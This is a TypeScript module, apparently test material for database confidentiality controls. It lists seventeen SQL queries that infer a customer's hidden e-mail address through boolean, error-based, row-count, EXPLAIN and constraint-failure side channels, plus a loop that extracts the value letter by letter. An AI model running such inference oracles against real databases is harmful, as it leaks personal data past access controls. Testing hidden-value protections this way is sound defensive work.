/** Ways to read a value without ever being shown it: by whether the e-mail address of customer 3 begins with a text. */

interface Answer {
  readonly code: string;
  readonly rows: readonly (readonly unknown[])[];
  readonly count: number;
}

export interface Oracle {
  readonly name: string;
  ask(prefix: string): string;
  isYes(answer: Answer): boolean;
}

const ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789@._-";
const some = ({ rows }: Answer) => rows.length > 0;
const fails = (code: string) => (answer: Answer) => answer.code === code;
const DIVISION_BY_ZERO = fails("22012");

export const ORACLES: readonly Oracle[] = [
  {
    name: "a pattern in WHERE",
    ask: (prefix) => `select 1 from customers where id = 3 and email like '${prefix}%'`,
    isYes: some,
  },
  {
    name: "a part of it in WHERE",
    ask: (prefix) => `select 1 from customers where id = 3 and left(email, ${prefix.length}) = '${prefix}'`,
    isYes: some,
  },
  {
    name: "a view",
    ask: (prefix) => `select 1 from contacts where id = 3 and mail between '${prefix}' and '${prefix}~'`,
    isYes: some,
  },
  {
    name: "a subquery of another table's",
    ask: (prefix) =>
      `select id from orders o where o.id = 3 and exists
         (select from customers c where c.id = o.customer_id and c.email like '${prefix}%')`,
    isYes: some,
  },
  {
    name: "a join with values of one's own",
    ask: (prefix) =>
      `select c.id from customers c join (values ('${prefix}')) v(p) on starts_with(c.email, v.p) where c.id = 3`,
    isYes: some,
  },
  {
    name: "an error that CASE chooses",
    ask: (prefix) => `select 1 / (case when email like '${prefix}%' then 0 else 1 end) from customers where id = 3`,
    isYes: DIVISION_BY_ZERO,
  },
  {
    name: "an error of arithmetic alone",
    ask: (prefix) =>
      `select 1 / (ascii(substr(email, ${prefix.length}, 1)) - ascii('${prefix.at(-1)}')) from customers where id = 3`,
    isYes: DIVISION_BY_ZERO,
  },
  {
    name: "an AND that is not finished",
    ask: (prefix) => `select email like '${prefix}%' and 1 / (id - 3) = 1 from customers where id = 3`,
    isYes: DIVISION_BY_ZERO,
  },
  {
    name: "a masked answer that is NULL or not",
    ask: (prefix) => `select substring(email from '^${prefix.replaceAll(".", "[.]")}') from customers where id = 3`,
    isYes: ({ rows }) => rows.length > 0 && rows[0]![0] !== null,
  },
  {
    name: "how many rows a function gives",
    ask: (prefix) => `select 1 from customers, regexp_matches(email, '^${prefix.replaceAll(".", "[.]")}') where id = 3`,
    isYes: some,
  },
  {
    name: "an order among values of one's own",
    ask: (prefix) =>
      `select n from (select 2 as n, email as e from customers where id = 3
         union all values (1, '${prefix}'), (3, '${prefix}~')) s order by e collate "C", n`,
    isYes: ({ rows }) => rows.flat().join() === "1,2,3",
  },
  {
    name: "what falls together in a UNION",
    ask: (prefix) => `select left(email, ${prefix.length}) from customers where id = 3 union select '${prefix}'`,
    isYes: ({ rows }) => rows.length === 1,
  },
  {
    name: "what falls together in a GROUP BY",
    ask: (prefix) =>
      `select count(*) from (select left(email, ${prefix.length}) as e from customers where id = 3
         union all select '${prefix}') s group by e`,
    isYes: ({ rows }) => rows.length === 1,
  },
  {
    name: "how many rows a LIMIT lets through",
    ask: (prefix) =>
      `select id from orders limit (select count(*) filter (where email like '${prefix}%') from customers where id = 3)`,
    isYes: some,
  },
  {
    name: "what an UPDATE touches",
    ask: (prefix) =>
      `update orders set note = note where id = 3 and exists (select from customers where id = 3 and email like '${prefix}%')`,
    isYes: ({ count }) => count === 1,
  },
  {
    name: "a plan that was run",
    ask: (prefix) =>
      `explain (analyze, costs off, timing off) select from customers where id = 3 and email like '${prefix}%'`,
    isYes: ({ rows }) => /rows=1(\.00)? /.test(String(rows[0]?.[0])),
  },
  {
    name: "a check that old rows must pass",
    ask: (prefix) => `alter table customers add check (id <> 3 or email not like '${prefix}%')`,
    isYes: fails("23514"),
  },
];

/** What the oracle gives away, asked letter by letter. */
export async function extract(isPrefix: (text: string) => Promise<boolean>, length: number): Promise<string> {
  let known = "";
  while (known.length < length) {
    let next = "";
    for (const letter of ALPHABET) {
      if (!(await isPrefix(known + letter))) continue;
      next = letter;
      break;
    }
    if (next === "") return known;
    known += next;
  }
  return known;
}
